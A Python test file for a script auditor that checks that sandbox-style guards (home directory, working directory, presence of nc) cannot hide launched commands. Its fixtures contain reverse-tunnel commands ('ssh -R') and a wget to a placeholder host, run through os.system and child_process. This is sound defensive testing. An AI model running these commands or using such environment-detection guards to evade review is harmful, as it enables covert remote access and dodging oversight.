"""Guards that ask where a script runs: what is only supposed of the machine decides no branch, text decides it."""

from __future__ import annotations

import pytest

from auditor.model.unit import Language
from tests.read.adversary.test_spellings import starts

PYTHON = (
    'os.path.expanduser("~") == "/root"',
    'os.environ["HOME"] == "/root"',
    'os.environ.get("HOME") != "~"',
    'os.getcwd() == "/work"',
    'Path.cwd().name == "work"',
    'str(Path.home()) == "/root"',
    '__file__ == "/work/x.py"',
    'os.path.basename(__file__) == "train.py"',
    "len(sys.argv[0]) > 50",
    'sys.executable == "/usr/local/bin/python"',
    'shutil.which("nc") is None',
    'not shutil.which("nc")',
    'tempfile.gettempdir() != "/tmp"',
    "sys.maxsize < 2**32",
    'os.sep == "\\\\"',
    'os.path.abspath(".") == "/work"',
    'subprocess.getoutput("echo $HOME") == "/root"',
    '{"/root": True}.get(os.path.expanduser("~"), False)',
    '[False, True][os.path.expanduser("~") == "/root"]',
)
BASH = (
    '[ "$HOME" = /root ] || exit 0',
    '[ -n "$(command -v python3)" ] && exit 0',
    'if [ "$PWD" = /work ]; then exit; fi; [ "$PWD" != /x ] && exit',
    '[ "$(basename "$0")" = x.sh ] || exit',
    '[ "$(printf %s "$HOME")" = \'~\' ] && exit',
    'x=$(realpath .); [ "$x" = /srv ] || exit',
    '[ "${SHELL##*/}" = zsh ] || exit',
    "[[ $- != *i* ]] && exit",
    'while [ "$HOME" != /root ]; do exit; done',
)
JAVASCRIPT = (
    'os.homedir() === "/root"',
    '__dirname === "/work"',
    'os.tmpdir() !== "/tmp"',
    'process.execPath === "/x"',
)


@pytest.mark.parametrize("guard", PYTHON)
def test_python_guards_hide_nothing(guard: str) -> None:
    """Code behind a question about the machine is read, whichever answer was supposed."""
    heading = "import os, shutil, subprocess, sys, tempfile\nfrom pathlib import Path\n"
    assert "ssh -R 1:a:2 h" in starts(Language.PYTHON, f"{heading}if {guard}:\n    os.system('ssh -R 1:a:2 h')\n")
    assert "ssh -R 1:a:2 h" in starts(Language.PYTHON, f"{heading}if not ({guard}):\n    os.system('ssh -R 1:a:2 h')\n")


@pytest.mark.parametrize("guard", BASH)
def test_bash_guards_hide_nothing(guard: str) -> None:
    """A script that leaves where the machine is another is read to its end."""
    assert "ssh -R 1:a:2 h" in starts(Language.BASH, f"{guard}\nssh -R 1:a:2 h\n")


@pytest.mark.parametrize("guard", JAVASCRIPT)
def test_javascript_guards_hide_nothing(guard: str) -> None:
    """The same for what Node says of the machine."""
    code = f'const os = require("os"), cp = require("child_process");\nif ({guard}) cp.exec("ssh -R 1:a:2 h");\n'
    assert "ssh -R 1:a:2 h" in starts(Language.JAVASCRIPT, code)


@pytest.mark.parametrize(
    ("code", "runs"),
    [
        ("if false; then W; fi", False),
        ("if [ 1 = 2 ]; then W; else :; fi", False),
        ("if [ 1 = 1 ]; then :; else W; fi", False),
        ("[ 1 = 2 ] && W", False),
        ("[[ abc == a* ]] || W", False),
        ("case abc in x*) W;; a*) :;; esac", False),
        ("((0)) && W", False),
        ("true || W", False),
        ("if true; then W; fi", True),
        ("case abc in a*) :;;& *c) W;; esac", True),
        ("case abc in a*) :;& x) W;; esac", True),
        ("true() { return 1; }; true || W", True),
        ("x=1; while read -r l; do if [ $x = 2 ]; then W; fi; x=2; done", True),
        ("f() { if [ $# -gt 3 ]; then W; fi; }", True),
        ("[ -f /x ] && W", True),
        ('if [ "$x" = 2 ]; then W; fi', True),
    ],
)
def test_only_text_decides_in_bash(code: str, runs: bool) -> None:
    """A branch that its own words rule out is not walked; one on anything else is."""
    found = starts(Language.BASH, code.replace("W", "wget http://a.invalid/b"))
    assert any(line.startswith("wget ") for line in found) is runs


def test_what_is_supposed_still_serves_as_a_value() -> None:
    """A path below the home directory is the path, and nothing of the mark shows."""
    assert "cat ~/x" in starts(Language.PYTHON, "import os\nos.system('cat ' + os.path.expanduser('~/x'))")
    assert "/usr/bin/agentx -v" in starts(
        Language.PYTHON, "import os, shutil\nos.system(shutil.which('agentx') + ' -v')"
    )


def test_a_long_trail_does_not_forget() -> None:
    """However often a supposed value is changed, it decides nothing."""
    steps = "".join(".replace('q', 'w').upper()[::-1]" for _ in range(12))
    code = f"import os\nif os.path.expanduser('~'){steps} == 'X':\n    os.system('ssh -R 1:a:2 h')\n"
    assert "ssh -R 1:a:2 h" in starts(Language.PYTHON, code)


SENT = """
import os
log = []
def worker(prefix):
    while True:
        word = yield len(log)
        log.append(prefix + word)
w = worker("a")
next(w)
for word in ("x", "y", "z"):
    w.send(word)
os.system(" ".join(["ls", *log]))
"""


def test_a_generator_changes_the_outside_once_for_each_value() -> None:
    """Reading its body again for each value repeats nothing that it did before."""
    assert "ls ax ay az" in starts(Language.PYTHON, SENT)


@pytest.mark.parametrize(
    "code",
    [
        "def g():\n    x = yield\n    print(x)\nr = g()\nnext(r)\nr.send('ssh -R 1:a:2 h')\n",
        "import functools\n@functools.singledispatch\ndef run(x):\n    print(x)\nrun('ssh -R 1:a:2 h')\n",
        "import logging\nlogging.warning('ssh -R 1:a:2 h')\n",
        "import argparse as a\np = a.ArgumentParser()\np.add_argument('-x', default='ssh h')\np.parse_args()",
        "class F:\n    def __set__(self, o, v):\n        print(v)\nclass C:\n    f = F()\nC().f = 'ssh -R 1:a:2 h'\n",
        "import pexpect\nc = pexpect.spawn('python3')\nc.sendline('print(1)')\n",
    ],
)
def test_carrying_text_is_not_running_it(code: str) -> None:
    """The same carriers without a way out start nothing."""
    assert [line for line in starts(Language.PYTHON, code) if line.startswith("ssh")] == []
